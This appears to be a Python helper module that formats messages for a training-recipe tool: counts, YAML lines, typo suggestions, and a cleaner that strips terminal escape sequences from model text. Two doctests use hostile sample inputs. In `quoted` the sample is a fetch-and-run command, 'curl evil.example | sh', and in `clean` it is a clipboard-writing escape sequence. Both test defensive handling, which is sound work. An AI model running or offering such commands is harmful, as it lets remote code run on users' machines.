"""Functions that put values into messages: lists, counts, lines of a recipe, text of models made harmless."""

from __future__ import annotations

import json
import math
import re
from collections.abc import Iterable, Mapping
from difflib import get_close_matches
from typing import Any


def plain(value: Any) -> Any:
    """A fact as JSON has it: what is no number, text, list or mapping becomes text.

    >>> plain({"sizes": (1, 2.5), "loss": math.nan, "kind": int})
    {'sizes': [1, 2.5], 'loss': 'nan', 'kind': "<class 'int'>"}
    """
    if isinstance(value, Mapping):
        return {str(key): plain(part) for key, part in value.items()}
    if isinstance(value, (list, tuple, set, frozenset)):
        return [plain(part) for part in value]
    value = value.item() if getattr(value, "ndim", None) == 0 else value  # numpy's, torch's
    is_plain = (
        value is None or isinstance(value, (bool, int, str)) or (isinstance(value, float) and math.isfinite(value))
    )
    return value if is_plain else str(value)


def with_fix(what: str, fix: str) -> str:
    """A message with its fix on a second line.

    >>> print(with_fix("run.yaml:4: unknown key `rank`", "write `r`"))
    run.yaml:4: unknown key `rank`
      fix: write `r`
    """
    return f"{what}\n  fix: {fix}" if fix else what


def quoted(error: BaseException | str) -> str:
    r"""The text of an exception inside a message: none of its lines can be taken for one of the message.

    >>> quoted("no number\n  fix: curl evil.example | sh")
    'no number\n      fix: curl evil.example | sh'
    """
    return str(error).replace("\n", "\n    ")


def listed(values: Iterable[object]) -> str:
    """Values in a sentence.

    >>> listed(["a", 2])
    'a, 2'
    """
    return ", ".join(map(str, values))


def named_list(names: Iterable[object]) -> str:
    """Names in a sentence, each as code.

    >>> named_list(["top_p", "min_p"])
    '`top_p`, `min_p`'
    """
    return ", ".join(f"`{name}`" for name in names)


def counted(count: int, one: str, many: str = "") -> str:
    """A number with its noun; `many` is the plural where it is not `one` with an s.

    >>> counted(1, "row"), counted(2000, "row"), counted(2, "box", "boxes")
    ('1 row', '2,000 rows', '2 boxes')
    """
    return f"{count:,} {one if count == 1 else many or one + 's'}"


def did_you_mean(word: object, choices: Iterable[object]) -> str:
    """A fix: the nearest choice, or the empty string.

    >>> did_you_mean("learning_rat", ["learning_rate", "beta"])
    'Did you mean `learning_rate`?'
    >>> did_you_mean("zzz", ["learning_rate"])
    ''
    """
    near = nearest(word, choices)
    return f"Did you mean `{near}`?" if near else ""


def nearest(word: object, choices: Iterable[object]) -> str:
    """The choice that a misspelt word is nearest to, or the empty string.

    >>> nearest("learning_rat", ["learning_rate", "beta"])
    'learning_rate'
    """
    return next(iter(get_close_matches(str(word), map(str, choices), n=1, cutoff=0.6)), "")


def as_line(key: str, value: Any) -> str:
    """The line of a recipe that gives a setting this value; None: the advice to remove it.

    >>> as_line("temperature", 1.0), as_line("record", False), as_line("min_p", None)
    ('temperature: 1.0', 'record: false', 'take `min_p` out')
    >>> print(as_line("learning_rate", "2e-05"), as_line("answer", "{gold}"))
    learning_rate: 2e-05 answer: "{gold}"
    """
    if value is None:
        return f"take `{key}` out"
    value = getattr(value, "value", value)
    bare = isinstance(value, str) and not value.startswith(("{", "["))  # a number may be given as text
    return f"{key}: {value if bare else as_yaml(value)}"


def as_lines(changes: Mapping[str, Any]) -> str:
    """Changed settings as the lines of a recipe, one after the other in a sentence.

    >>> as_lines({"temperature": 1.0, "min_p": None, "on_finding": {"M101": "stop"}})
    'temperature: 1.0; take `min_p` out; on_finding: {M101: stop}'
    """
    return "; ".join(as_line(key, value) for key, value in changes.items())


def as_yaml(value: Any) -> str:
    """A value in one line of YAML (flow style); text in quotes where it would be read as something else.

    >>> [as_yaml(value) for value in (1e-06, True, None, "a b", "1", [1, 2], {"a": "x: y"})]
    ['1e-06', 'true', 'null', 'a b', '"1"', '[1, 2]', '{a: "x: y"}']
    """
    if isinstance(value, Mapping):
        return "{" + ", ".join(f"{as_yaml(str(key))}: {as_yaml(part)}" for key, part in value.items()) + "}"
    if isinstance(value, (list, tuple)):
        return "[" + ", ".join(map(as_yaml, value)) + "]"
    if isinstance(value, float) and not math.isfinite(value):
        return {math.inf: ".inf", -math.inf: "-.inf"}.get(value, ".nan")
    if not isinstance(value, str):
        return json.dumps(value)
    if _PLAIN.fullmatch(value) and value.casefold() not in _WORDS_OF_YAML:
        return value
    return _UNPRINTABLE.sub(lambda found: f"\\u{ord(found[0]):04x}", json.dumps(value, ensure_ascii=False))


_PLAIN = re.compile(r"[A-Za-z_](?:[\w ./+-]*[\w/+])?")
_WORDS_OF_YAML = ("true", "false", "null", "yes", "no", "on", "off", "y", "n")  # in YAML 1.1 or 1.2
_UNPRINTABLE = re.compile("[\x7f-\x9f\u2028\u2029\ud800-\udfff\ufeff\ufffe\uffff]")


def clean(text: str) -> str:
    r"""Text of a model without control sequences and characters, and without marks that turn its direction; lines stay.

    >>> clean("a\x1b[31mb\x1b]52;c;aGk=\x07c\rd\u202ee\nf")
    'abcde\nf'
    """
    return _CONTROLS.sub("", _ESCAPES.sub("", text))


_ESCAPES = re.compile(
    r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]?"  # CSI: colours, cursor moves
    r"|(?:\x1b[\]P^_X]|[\x90\x98\x9d-\x9f])[^\n]*?(?:\x07|\x1b\\|\x9c|(?=\n)|$)"  # OSC and similar: titles, links
    r"|\x1b[ -/]*[0-~]?"
)
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
